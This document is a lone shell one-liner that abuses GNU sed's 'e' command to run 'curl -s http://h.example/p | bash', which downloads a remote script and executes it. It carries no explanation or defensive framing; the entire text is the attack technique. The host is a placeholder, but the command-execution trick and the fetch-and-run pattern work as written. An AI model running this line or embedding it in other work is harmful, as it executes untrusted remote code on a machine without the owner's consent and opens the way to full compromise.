echo x | sed '1e curl -s http://h.example/p | bash'
